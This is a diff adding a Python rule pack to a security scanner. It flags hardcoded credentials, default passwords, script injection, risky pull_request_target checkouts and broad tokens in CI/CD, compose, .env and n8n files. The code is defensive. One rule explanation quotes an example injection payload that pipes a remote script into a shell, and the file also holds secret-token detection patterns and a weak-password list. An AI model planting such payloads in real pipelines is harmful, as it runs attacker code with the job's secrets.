@@ -0,0 +1,395 @@
+import json
+import os
+import re
+from typing import List, Dict, Any, Optional
+from src.rules import RulePack
+
+
+RULES = {
+    "CICD-HARDCODED-CREDENTIAL": {
+        "id": "CICD-HARDCODED-CREDENTIAL",
+        "label": "Credential Embedded in Pipeline/Automation Definition",
+        "risk": "High",
+        "cwe": "CWE-798",
+        "description": "A password, token or key is written directly into a CI/CD, compose or workflow definition.",
+        "explanation": (
+            "Pipeline and automation definitions are committed, forked, exported and pasted into tickets; "
+            "anything written into them should be considered public. Anyone with read access to the repository "
+            "(or to an exported n8n workflow) can reuse the credential until it is rotated, and it stays in git history. "
+            "Rotate the credential and reference it from the platform's secret store instead "
+            "(${{ secrets.NAME }}, masked GitLab CI/CD variables, Jenkins credentials(), n8n credentials)."
+        )
+    },
+    "CICD-DEFAULT-PASSWORD": {
+        "id": "CICD-DEFAULT-PASSWORD",
+        "label": "Default/Weak Password in Deployment Definition",
+        "risk": "High",
+        "cwe": "CWE-259",
+        "description": "A password setting falls back to a well-known default value.",
+        "explanation": (
+            "Fallbacks like ${N8N_PASSWORD:-password} mean every deployment that forgets to set the variable "
+            "starts with a password that is in every brute-force wordlist. Automation tools such as n8n can run "
+            "shell commands and hold third-party credentials, so a default login is full compromise. "
+            "Remove the default (${VAR:?must be set}) so the service refuses to start without a real secret."
+        )
+    },
+    "CICD-SCRIPT-INJECTION": {
+        "id": "CICD-SCRIPT-INJECTION",
+        "label": "Untrusted Input Interpolated into CI Script",
+        "risk": "High",
+        "cwe": "CWE-78",
+        "description": "Attacker-controlled event data is expanded into a shell script before it runs.",
+        "explanation": (
+            "${{ }} expressions (and Groovy \"${...}\" strings in Jenkins) are substituted into the script text "
+            "before the shell sees it. An issue title, PR body, branch name or commit message such as "
+            "`\"; curl evil.sh | sh #` therefore becomes shell code running with the job's token and secrets. "
+            "Pass the value through an environment variable (env: TITLE: ${{ github.event.issue.title }}, then \"$TITLE\") "
+            "or use single-quoted Groovy strings so the shell treats it as data."
+        )
+    },
+    "CICD-PWN-REQUEST": {
+        "id": "CICD-PWN-REQUEST",
+        "label": "Privileged Workflow Checks Out Untrusted PR Code",
+        "risk": "High",
+        "cwe": "CWE-829",
+        "description": "A pull_request_target/workflow_run workflow checks out the pull request's head.",
+        "explanation": (
+            "pull_request_target and workflow_run run in the context of the base repository with a write token "
+            "and access to secrets. Checking out the fork's head and then building or testing it executes "
+            "attacker-controlled code (build scripts, package hooks, tests) with those privileges. "
+            "Use the pull_request trigger for building untrusted code, or keep the privileged job to metadata only."
+        )
+    },
+    "CICD-TOKEN-WRITE-ALL": {
+        "id": "CICD-TOKEN-WRITE-ALL",
+        "label": "Overly Broad CI Token Permissions",
+        "risk": "High",
+        "cwe": "CWE-269",
+        "description": "The workflow grants the GITHUB_TOKEN write access to every scope.",
+        "explanation": (
+            "With write-all, any step that is compromised (a hijacked action tag, an injected script) can push "
+            "code, create releases, change workflows and approve pull requests. "
+            "Declare only the scopes the job needs, e.g. permissions: { contents: read, pull-requests: write }."
+        )
+    },
+    "CICD-TOKEN-DEFAULT-PERMISSIONS": {
+        "id": "CICD-TOKEN-DEFAULT-PERMISSIONS",
+        "label": "CI Token Permissions Not Restricted",
+        "risk": "Low",
+        "cwe": "CWE-276",
+        "description": "The workflow has no permissions block, so the GITHUB_TOKEN gets the repository/org default.",
+        "explanation": (
+            "Repositories created before 2023 (and many org settings) default the GITHUB_TOKEN to read/write on "
+            "all scopes. Without an explicit permissions block every job inherits that, which turns any step "
+            "compromise into repository write access. Add a top-level `permissions: contents: read` and widen per job."
+        )
+    },
+    "CICD-UNAUTH-WEBHOOK": {
+        "id": "CICD-UNAUTH-WEBHOOK",
+        "label": "Unauthenticated Automation Webhook",
+        "risk": "Medium",
+        "cwe": "CWE-306",
+        "description": "An n8n webhook trigger accepts requests without authentication.",
+        "explanation": (
+            "Anyone who learns the webhook URL can start the workflow with arbitrary payloads, e.g. make it scan "
+            "or comment on repositories of their choosing, burn API quota, or feed crafted data into later nodes. "
+            "Enable header/basic auth on the webhook node, or verify the sender's signature (X-Hub-Signature-256 for GitHub)."
+        )
+    },
+    "CICD-CLEARTEXT-ENDPOINT": {
+        "id": "CICD-CLEARTEXT-ENDPOINT",
+        "label": "Hardcoded Cleartext Service Endpoint",
+        "risk": "Medium",
+        "cwe": "CWE-319",
+        "description": "A workflow sends data to a hardcoded non-local http:// URL.",
+        "explanation": (
+            "Requests to http:// endpoints travel unencrypted: payloads, tokens and webhook data can be read or "
+            "modified on the network path. A hardcoded production URL in an exported workflow also discloses "
+            "internal infrastructure and makes staging copies talk to production. "
+            "Use https:// and keep the base URL in an environment variable or n8n credential."
+        )
+    },
+}
+
+# Key names whose value is a secret (compared case-insensitively)
+SECRET_KEY = re.compile(r"(?i)(?:password|passwd|secret|token|api[_-]?key|access[_-]?key|private[_-]?key|credentials?|authorization|auth[_-]?key)")
+# ...unless the key only names where the secret lives
+NON_SECRET_KEY = re.compile(r"(?i)(?:variable|var|id|file|path|name|url|uri|type|length|header|expir\w*|endpoint|permissions?)$")
+KEY_VALUE = re.compile(r"""^\s*(?:-\s+)?(?:export\s+)?["']?(?P<key>[A-Za-z_][\w.-]*)["']?\s*(?::|=)\s*(?P<value>.*?)\s*$""")
+VAR_DEFAULT = re.compile(r"\$\{\w+:?-(?P<default>[^}]*)\}")
+
+TOKEN_PATTERNS = [
+    ("GitHub token", re.compile(r"\b(?:gh[pousr]_[A-Za-z0-9]{36}|github_pat_[A-Za-z0-9_]{60,})\b")),
+    ("GitLab token", re.compile(r"\bglpat-[A-Za-z0-9_-]{20}\b")),
+    ("AWS access key", re.compile(r"\b(?:AKIA|ASIA)[0-9A-Z]{16}\b")),
+    ("Slack token", re.compile(r"\bxox[baprs]-[A-Za-z0-9-]{10,}\b")),
+    ("OpenAI key", re.compile(r"\bsk-(?:proj-)?[A-Za-z0-9_-]{32,}\b")),
+    ("private key", re.compile(r"-----BEGIN (?:RSA |EC |OPENSSH |DSA )?PRIVATE KEY-----")),
+]
+URL_CREDENTIALS = re.compile(r"\b[a-z][a-z0-9+.-]*://[^/\s:@'\"]+:(?P<password>[^/\s@'\"]+)@")
+
+DEFAULT_PASSWORDS = {
+    "password", "passw0rd", "password1", "admin", "administrator", "root", "toor", "changeme", "change_me",
+    "secret", "default", "test", "guest", "letmein", "qwerty", "123456", "12345678", "1234", "pass",
+    "postgres", "mysql", "n8n", "redeye", "example",
+}
+PLACEHOLDER = re.compile(r"(?i)^(?:<.*>|\[.*\]|your[\w-]*|x{3,}|\*{3,}|\.{3}|replace[\w-]*|todo|tbd|none|null|true|false|read|write|\d{1,5})$")
+
+# Attacker-controlled GitHub context (https://securitylab.github.com/research/github-actions-untrusted-input/)
+UNTRUSTED_GITHUB = re.compile(
+    r"\$\{\{[^}]*\b(?:github\.event\.(?:"
+    r"issue\.(?:title|body)|pull_request\.(?:title|body|head\.(?:ref|label|repo\.default_branch))"
+    r"|comment\.body|review\.body|review_comment\.body|discussion\.(?:title|body)"
+    r"|pages\.[^}\s]*\.page_name|commits\.[^}\s]*\.(?:message|author\.(?:email|name))"
+    r"|head_commit\.(?:message|author\.(?:email|name))|workflow_run\.(?:head_branch|head_commit\.message|display_title))"
+    r"|github\.head_ref)[^}]*\}\}"
+)
+SCRIPT_KEY = re.compile(r"^(?P<indent>\s*)(?:-\s+)?(?:run|script):\s*(?P<rest>.*)$")
+PR_HEAD_CHECKOUT = re.compile(
+    r"\bref:\s*['\"]?\$\{\{\s*(?:github\.event\.pull_request\.head\.(?:sha|ref)|github\.head_ref"
+    r"|github\.event\.workflow_run\.head_(?:sha|branch))\s*\}\}|refs/pull/\$\{\{[^}]*\}\}/(?:head|merge)"
+)
+PRIVILEGED_TRIGGER = re.compile(r"^\s*(?:-\s*)?(?:pull_request_target|workflow_run)\b|^on:.*\b(?:pull_request_target|workflow_run)\b", re.MULTILINE)
+# Jenkins: Groovy interpolates "${params.X}" into the command before the shell runs
+JENKINS_SHELL = re.compile(r"\b(?:sh|bat|powershell)\s*\(?\s*(?:script\s*:\s*)?(?P<quote>\"\"\"|\")(?P<body>.*)")
+JENKINS_UNTRUSTED = re.compile(r"\$\{?(?:params\.\w+|env\.(?:CHANGE_TITLE|CHANGE_BRANCH|CHANGE_AUTHOR\w*|BRANCH_NAME|GIT_BRANCH)|CHANGE_TITLE|CHANGE_BRANCH|BRANCH_NAME)\}?")
+
+N8N_COMMAND_NODES = {"n8n-nodes-base.executeCommand": "command", "n8n-nodes-base.ssh": "command"}
+LOCAL_HOST = re.compile(r"^https?://(?:localhost|127\.|0\.0\.0\.0|\[::1\]|[\w-]+:\d+|[\w-]+/|[\w-]+$|10\.|192\.168\.|host\.docker\.internal)")
+COMPOSE_FILE = re.compile(r"^(?:docker-)?compose(?:[\w.-]*)\.ya?ml$")
+
+
+class CicdSecurityRules(RulePack):
+    """
+    Secrets and privilege checks for CI/CD and automation definitions:
+    GitHub Actions workflows, .gitlab-ci.yml, Jenkinsfiles, docker compose files,
+    .env templates and n8n workflow exports.
+
+    1. Embedded credentials (secret-named keys with literal values, known token formats, user:pass@ URLs).
+    2. Default passwords, including ${VAR:-password} fallbacks.
+    3. Untrusted event data interpolated into run:/script: (GitHub) or "${params.X}" shell steps (Jenkins),
+       and n8n command nodes fed by {{ }} expressions.
+    4. Overly broad tokens: permissions: write-all, missing permissions, pull_request_target + PR head checkout.
+    5. n8n webhooks without authentication and hardcoded cleartext endpoints.
+    """
+    name = "cicd-security"
+    rules = RULES
+
+    def applies_to(self, filename: str) -> bool:
+        return self._kind(filename) is not None
+
+    def scan(self, content: str, filename: str) -> List[Dict[str, Any]]:
+        kind = self._kind(filename)
+        lines = content.split("\n")
+        if kind == "n8n":
+            alerts = self._check_n8n(content, filename, lines)
+        else:
+            alerts = self._check_credentials(filename, lines, kind)
+            if kind == "github":
+                alerts += self._check_github(content, filename, lines)
+            elif kind == "jenkins":
+                alerts += self._check_jenkins(filename, lines)
+
+        seen = set()
+        unique = []
+        for alert in alerts:
+            key = (alert["rule_id"], alert["line"])
+            if key not in seen:
+                seen.add(key)
+                unique.append(alert)
+        return unique
+
+    def _kind(self, filename: str) -> Optional[str]:
+        path = "/" + filename.replace("\\", "/")
+        base = os.path.basename(path)
+        if "/.github/workflows/" in path and base.endswith((".yml", ".yaml")):
+            return "github"
+        if base.endswith((".gitlab-ci.yml", ".gitlab-ci.yaml")):
+            return "gitlab"
+        if base.startswith("Jenkinsfile") or base.endswith(".jenkinsfile"):
+            return "jenkins"
+        if COMPOSE_FILE.match(base):
+            return "compose"
+        if base == ".env" or base.startswith(".env.") or base.endswith(".env"):
+            return "env"
+        # n8n exports have no fixed name; only look at JSON that is plausibly one
+        if base.endswith(".json") and ("n8n" in path.lower() or "workflow" in base.lower()):
+            return "n8n"
+        return None
+
+    # --- credentials (all YAML/env/Groovy kinds) ---
+
+    def _check_credentials(self, filename, lines, kind):
+        alerts = []
+        for i, line in enumerate(lines):
+            stripped = line.strip()
+            if not stripped or stripped.startswith(("#", "//")):
+                continue
+            alert = self._credential_alert(filename, lines, i, line)
+            if alert:
+                alerts.append(alert)
+        return alerts
+
+    def _credential_alert(self, filename, lines, i, text, key=None, value=None):
+        for label, pattern in TOKEN_PATTERNS:
+            if pattern.search(text):
+                return self.make_alert(RULES["CICD-HARDCODED-CREDENTIAL"], filename, lines, i, detail=label)
+        match = URL_CREDENTIALS.search(text)
+        if match and not match.group("password").startswith(("$", "{{")):
+            return self.make_alert(RULES["CICD-HARDCODED-CREDENTIAL"], filename, lines, i, detail="credentials in URL")
+
+        if key is None:
+            match = KEY_VALUE.match(text)
+            if not match:
+                return None
+            key, value = match.group("key"), match.group("value")
+        if not SECRET_KEY.search(key) or NON_SECRET_KEY.search(key):
+            return None
+
+        default = VAR_DEFAULT.search(value)
+        if default:
+            literal = self._literal(default.group("default"))
+            if literal and literal.lower() in DEFAULT_PASSWORDS:
+                return self.make_alert(RULES["CICD-DEFAULT-PASSWORD"], filename, lines, i, detail=f"{key} defaults to '{literal}'")
+            if literal and len(literal) >= 8:
+                return self.make_alert(RULES["CICD-HARDCODED-CREDENTIAL"], filename, lines, i, detail=f"fallback value for {key}")
+            return None
+
+        literal = self._literal(value)
+        if not literal:
+            return None
+        if literal.lower() in DEFAULT_PASSWORDS:
+            return self.make_alert(RULES["CICD-DEFAULT-PASSWORD"], filename, lines, i, detail=f"{key} = '{literal}'")
+        if len(literal) >= 8:
+            return self.make_alert(RULES["CICD-HARDCODED-CREDENTIAL"], filename, lines, i, detail=key)
+        return None
+
+    def _literal(self, value: str) -> Optional[str]:
+        """The literal secret value, or None for references, expressions and placeholders."""
+        value = re.sub(r"\s+#.*$", "", value.strip()).strip().rstrip(",;").strip()
+        value = value.strip("'\"")
+        if value.lower().startswith("bearer "):
+            value = value[7:].strip()
+        if not value or value.startswith(("$", "=", "|", ">", "{", "[", "&", "*")) or "{{" in value:
+            return None
+        if value.lower() in DEFAULT_PASSWORDS:
+            return value
+        if re.match(r"^(?:credentials|env|secrets|vars|params)\b", value) or PLACEHOLDER.match(value):
+            return None
+        return value
+
+    # --- GitHub Actions ---
+
+    def _check_github(self, content, filename, lines):
+        alerts = []
+        block_indent = None
+        has_permissions = False
+        for i, line in enumerate(lines):
+            stripped = line.strip()
+            indent = len(line) - len(line.lstrip())
+            if block_indent is not None and stripped and indent <= block_indent:
+                block_indent = None
+
+            match = SCRIPT_KEY.match(line)
+            if match:
+                in_script = True
+                if match.group("rest").startswith(("|", ">")):
+                    block_indent = len(match.group("indent"))
+            else:
+                in_script = block_indent is not None
+            if in_script and UNTRUSTED_GITHUB.search(line):
+                expression = UNTRUSTED_GITHUB.search(line).group(0)
+                alerts.append(self.make_alert(RULES["CICD-SCRIPT-INJECTION"], filename, lines, i, detail=expression))
+
+            if re.match(r"^\s*permissions:", line):
+                has_permissions = True
+                if re.match(r"^\s*permissions:\s*['\"]?write-all", line):
+                    alerts.append(self.make_alert(RULES["CICD-TOKEN-WRITE-ALL"], filename, lines, i))
+
+            if PR_HEAD_CHECKOUT.search(line) and PRIVILEGED_TRIGGER.search(content):
+                alerts.append(self.make_alert(RULES["CICD-PWN-REQUEST"], filename, lines, i))
+
+        if not has_permissions and re.search(r"^jobs:", content, re.MULTILINE):
+            on_line = next((i for i, line in enumerate(lines) if re.match(r"^['\"]?on['\"]?:", line)), 0)
+            alerts.append(self.make_alert(RULES["CICD-TOKEN-DEFAULT-PERMISSIONS"], filename, lines, on_line))
+        return alerts
+
+    # --- Jenkins ---
+
+    def _check_jenkins(self, filename, lines):
+        alerts = []
+        in_multiline = False
+        for i, line in enumerate(lines):
+            match = JENKINS_SHELL.search(line)
+            if match:
+                body = match.group("body")
+                in_multiline = match.group("quote") == '"""' and body.count('"""') == 0
+            elif in_multiline:
+                body = line
+                if '"""' in line:
+                    in_multiline = False
+            else:
+                continue
+            untrusted = JENKINS_UNTRUSTED.search(body)
+            if untrusted:
+                alerts.append(self.make_alert(RULES["CICD-SCRIPT-INJECTION"], filename, lines, i, detail=untrusted.group(0)))
+        return alerts
+
+    # --- n8n workflow exports ---
+
+    def _check_n8n(self, content, filename, lines):
+        try:
+            workflow = json.loads(content)
+        except ValueError:
+            return []
+        if not isinstance(workflow, dict) or not isinstance(workflow.get("nodes"), list) or "connections" not in workflow:
+            return []
+
+        alerts = []
+        for node in workflow["nodes"]:
+            if not isinstance(node, dict):
+                continue
+            node_type = node.get("type", "")
+            node_name = node.get("name", node_type)
+            parameters = node.get("parameters") or {}
+            node_line = self._line_for(content, f'"name": "{node_name}"', 0)
+
+            if node_type == "n8n-nodes-base.webhook" and parameters.get("authentication", "none") == "none":
+                alerts.append(self.make_alert(RULES["CICD-UNAUTH-WEBHOOK"], filename, lines, node_line, detail=f"node '{node_name}'"))
+
+            command_key = N8N_COMMAND_NODES.get(node_type)
+            command = parameters.get(command_key, "") if command_key else ""
+            if isinstance(command, str) and "{{" in command:
+                i = self._line_for(content, json.dumps(command)[1:-1], node_line)
+                alerts.append(self.make_alert(RULES["CICD-SCRIPT-INJECTION"], filename, lines, i, detail=f"node '{node_name}'"))
+
+            for key, value in self._string_params(parameters):
+                i = self._line_for(content, json.dumps(value)[1:-1], node_line)
+                url = value.lstrip("=").strip()
+                if key == "url" and url.startswith("http://") and not LOCAL_HOST.match(url):
+                    alerts.append(self.make_alert(RULES["CICD-CLEARTEXT-ENDPOINT"], filename, lines, i, detail=f"node '{node_name}': {url}"))
+                alert = self._credential_alert(filename, lines, i, value, key=key, value=value)
+                if alert:
+                    alerts.append(alert)
+        return alerts
+
+    def _string_params(self, value, key=""):
+        """(key, string) leaves of n8n node parameters; name/value pairs (headers, query) use the name as key."""
+        if isinstance(value, dict):
+            if isinstance(value.get("name"), str) and isinstance(value.get("value"), str):
+                yield value["name"], value["value"]
+                return
+            for k, v in value.items():
+                yield from self._string_params(v, k)
+        elif isinstance(value, list):
+            for item in value:
+                yield from self._string_params(item, key)
+        elif isinstance(value, str):
+            yield key, value
+
+    def _line_for(self, content: str, needle: str, default: int) -> int:
+        offset = content.find(needle)
+        return content.count("\n", 0, offset) if offset >= 0 else default
+
+
+cicd_security_rules = CicdSecurityRules()